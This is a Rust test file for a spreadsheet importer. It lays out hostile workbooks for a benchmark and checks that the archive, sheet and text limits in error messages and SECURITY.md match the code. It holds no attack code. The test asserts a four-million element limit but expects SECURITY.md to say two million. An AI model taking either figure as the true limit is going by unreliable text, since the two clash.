const MEASURING: &str = "DULY_TEST_MEASURES_WORKBOOKS";

/// For `benches/hostile.py`, which measures: every hostile workbook in its full size, and every hostile table, in a
/// folder of its own, with the line that runs it.
#[test]
#[ignore = "lays out what benches/hostile.py measures"]
fn lay_out_the_workbooks() {
    let home = PathBuf::from(std::env::var_os("HOSTILE_FOLDER").unwrap());
    let books = all(30).into_iter().map(|(name, bytes)| (name, "back.xlsx", bytes));
    let tables = hostile_tables().into_iter().map(|(name, table)| (name, "back.csv", table.into_bytes()));
    let mut list = String::new();
    for (at, (name, file, bytes)) in books.chain(tables).enumerate() {
        let folder = home.join(at.to_string());
        std::fs::create_dir(&folder).unwrap();
        std::fs::write(folder.join(file), bytes).unwrap();
        std::fs::write(folder.join("questionnaire.yaml"), example("small/questionnaire.yaml")).unwrap();
        list += &format!("{name}\t{}\timport {file} --force\n", folder.display());
    }
    std::fs::write(home.join("commands.tsv"), list).unwrap();
}

/// The numbers that a text names, but for the one in the name of an encoding.
fn numbers(text: &str) -> Vec<usize> {
    let text = text.replace("UTF-8", "");
    text.split(|sign: char| !sign.is_ascii_digit()).filter_map(|number| number.parse().ok()).collect()
}

/// The limits that are told are those that hold.
#[test]
fn limits_are_told_as_they_are() {
    let (book, papers) = (limits::WORKBOOK, back::LIMITS);
    let (rows, columns) = (limits::ROWS as usize, limits::COLUMNS as usize);
    let last = CellAt { row: 0, column: limits::COLUMNS - 1 }.to_string();
    let last = last.trim_end_matches('1');
    let told = [
        (
            "archive-too-large",
            [book.file, book.part, book.all, papers.file, papers.part].map(|size| size >> 20).to_vec(),
        ),
        ("archive-too-many-parts", vec![book.parts, papers.parts]),
        ("workbook-overgrown", vec![limits::DEPTH, limits::ATTRIBUTES, limits::PIECE >> 10]),
        ("sheet-too-large", vec![rows, columns]),
        ("too-much-text", vec![LARGEST >> 20]),
        ("zip-name", vec![back::LONGEST, back::DEEPEST]),
    ];
    for code in [archives::CODES, workbooks::CODES, backs::CODES].concat() {
        let expected = told.iter().find(|(id, _)| *id == code.id).map(|(_, numbers)| numbers.clone());
        for lang in [Lang::En, Lang::Sv] {
            assert_eq!(numbers(code.about(lang)), expected.clone().unwrap_or_default(), "{}", code.id);
        }
    }
    let far = workbooks::sheet_too_large("x", "y");
    for lang in [Lang::En, Lang::Sv] {
        assert_eq!(numbers(far.help(lang)), [rows]);
        assert!(far.help(lang).contains(&format!(" {last},")) || far.help(lang).contains(&format!(" {last} ")));
        assert!(far.code.about(lang).contains(&format!(" {last} (")));
    }
    let overgrown = workbooks::workbook_overgrown("x").code;
    assert_eq!(limits::ELEMENTS, 4_000_000);
    assert!(overgrown.about(Lang::En).contains("four million") && overgrown.about(Lang::Sv).contains("fyra miljoner"));
    assert_eq!(limits::TEXT, LARGEST);

    let told = std::fs::read_to_string(root().join("SECURITY.md")).unwrap().replace("\n  ", " ");
    let told = told.split("* **").find(|part| part.starts_with("Workbooks and ZIP files")).unwrap();
    let megabytes = |size: usize| size >> 20;
    let expected = [
        format!("A workbook: {} MiB, {} parts,", megabytes(book.file), book.parts),
        format!("{} MiB for a part and {} MiB for all", megabytes(book.part), megabytes(book.all)),
        format!("{} sheets, {},000 rows and {columns} columns", limits::SHEETS, rows / 1000),
        format!("{},000 cells with {} MiB of text", limits::CELLS / 1000, megabytes(limits::TEXT)),
        format!("two million elements, {} deep, with {} attributes", limits::DEPTH, limits::ATTRIBUTES),
        format!("{} MiB, {} MiB for a file, 2,000 files", megabytes(papers.file), megabytes(papers.part)),
    ];
    assert!(expected.iter().all(|words| told.contains(words.as_str())), "{expected:#?}\n{told}");
    assert_eq!(papers.parts, 2000);
}
